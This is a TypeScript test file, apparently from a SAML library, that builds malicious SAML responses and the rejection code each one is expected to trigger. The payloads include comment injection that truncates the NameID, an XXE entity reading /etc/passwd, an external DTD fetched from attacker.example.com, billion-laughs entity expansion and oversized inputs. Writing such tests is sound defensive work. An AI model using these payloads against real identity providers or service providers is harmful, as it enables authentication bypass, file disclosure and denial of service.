import { aResponse, anAssertion, encrypted, posted, signed } from '../a-response.ts';
import type { Attack } from './attack.ts';

/** What is done to a good response, as text. */
function attack(name: string, code: Attack['code'], change: (xml: string) => string): Attack {
  return {
    name,
    code,
    samlResponse: inResponseTo => posted(change(aResponse(signed(anAssertion({ inResponseTo })), { inResponseTo }))),
  };
}

function raw(name: string, code: Attack['code'], samlResponse: string): Attack {
  return { name, code, samlResponse: () => samlResponse };
}

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** Attacks on whatever reads XML. */
export const xml: readonly Attack[] = [
  attack('a comment that cuts the NameID', 'saml_comment', text =>
    text.replace('ada@example.com', 'ada@example.com<!---->.attacker.example.com'),
  ),
  attack('a comment in an attribute value', 'saml_comment', text => text.replace('>staff<', '>st<!-- -->aff<')),
  attack('a comment outside the assertion', 'saml_comment', text =>
    text.replace('<samlp:Status>', '<!-- x --><samlp:Status>'),
  ),
  attack('a CDATA section in the NameID', 'saml_markup', text =>
    text.replace('ada@example.com', '<![CDATA[ada@example.com]]>'),
  ),
  attack('a processing instruction in the NameID', 'saml_markup', text => text.replace('ada@', 'ada<?x y?>@')),
  attack('a DOCTYPE', 'saml_doctype', text => `<!DOCTYPE Response>${text}`),
  attack('a DOCTYPE in lower case', 'saml_doctype', text => `<!doctype Response>${text}`),
  attack(
    'an external entity (XXE)',
    'saml_doctype',
    text => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${text.replace('ada@example.com', '&x;')}`,
  ),
  attack(
    'an external parameter entity',
    'saml_doctype',
    text => `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://attacker.example.com/x.dtd"> %x;]>${text}`,
  ),
  attack(
    'entities that grow (billion laughs)',
    'saml_doctype',
    text => `<!DOCTYPE r [<!ENTITY l0 "lol">${laughs}]>${text.replace('ada@example.com', '&l9;')}`,
  ),
  attack('an entity that nobody declared', 'saml_malformed', text => text.replace('ada@', '&owner;@')),
  attack(
    'a default attribute that makes an ID',
    'saml_doctype',
    text => `<!DOCTYPE r [<!ATTLIST Status ID CDATA "_genuine">]>${text}`,
  ),
  {
    name: 'a DOCTYPE in what is encrypted',
    code: 'saml_doctype',
    samlResponse: inResponseTo =>
      posted(aResponse(encrypted(`<!DOCTYPE x>${signed(anAssertion({ inResponseTo }))}`), { inResponseTo })),
  },
  {
    name: 'a comment that cuts the NameID in what is encrypted',
    code: 'saml_comment',
    samlResponse: inResponseTo => {
      const assertion = signed(anAssertion({ inResponseTo })).replace('ada@', 'ada<!-- -->@');
      return posted(aResponse(encrypted(assertion), { inResponseTo }));
    },
  },
  attack('megabytes of spaces', 'saml_too_large', text =>
    text.replace('<samlp:Status>', `${' '.repeat(3_000_000)}<samlp:Status>`),
  ),
  attack('a little more than may be', 'saml_too_large', text =>
    text.replace('<samlp:Status>', `${' '.repeat(262_144)}<samlp:Status>`),
  ),
  attack('elements nested five hundred deep', 'saml_too_deep', text =>
    text.replace('<samlp:Status>', `${'<x>'.repeat(500)}${'</x>'.repeat(500)}<samlp:Status>`),
  ),
  attack('thirty thousand elements', 'saml_too_large', text =>
    text.replace('<samlp:Status>', `${'<x/>'.repeat(30_000)}<samlp:Status>`),
  ),
  attack('1600 elements that have to be canonicalized', 'saml_too_large', text =>
    text.replace('<saml:Subject>', `<saml:Advice>${'<x/>'.repeat(1600)}</saml:Advice><saml:Subject>`),
  ),
  attack('five thousand attributes that have to be canonicalized', 'saml_too_large', text => {
    const attributes = Array.from({ length: 5000 }, (_, n) => ` a${n}="1"`).join('');
    return text.replace('<saml:Subject>', `<saml:Subject${attributes}>`);
  }),
  attack('thousands of attributes without end', 'saml_malformed', text =>
    text.replace('<samlp:Status>', `<x ${'a="1" '.repeat(2000)}<samlp:Status>`),
  ),
  attack('a second root', 'saml_malformed', text => text + text),
  attack('text behind the end', 'saml_malformed', text => `${text}x`),
  attack('an attribute twice', 'saml_malformed', text => text.replace('Version="2.0"', 'Version="2.0" Version="2.0"')),
  attack('a zero byte in the NameID', 'saml_malformed', text => text.replace('ada@', 'ada\0@')),
  attack('an element that stays open', 'saml_malformed', text => text.slice(0, -5)),
  attack('a response of another namespace', 'saml_not_a_response', text =>
    text.replaceAll('urn:oasis:names:tc:SAML:2.0:protocol', 'urn:oasis:names:tc:SAML:1.0:protocol'),
  ),
  attack('an assertion in place of the response', 'saml_not_a_response', () => signed(anAssertion())),
  attack('a LogoutResponse', 'saml_not_a_response', text => text.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
  raw('no base64', 'saml_malformed', '<samlp:Response/>'),
  raw('nothing', 'saml_malformed', ''),
  raw('bytes that are no UTF-8', 'saml_malformed', Buffer.from([0x3c, 0xff, 0xfe, 0x3e]).toString('base64')),
  raw('UTF-16', 'saml_malformed', Buffer.from('<Response/>', 'utf16le').toString('base64')),
];
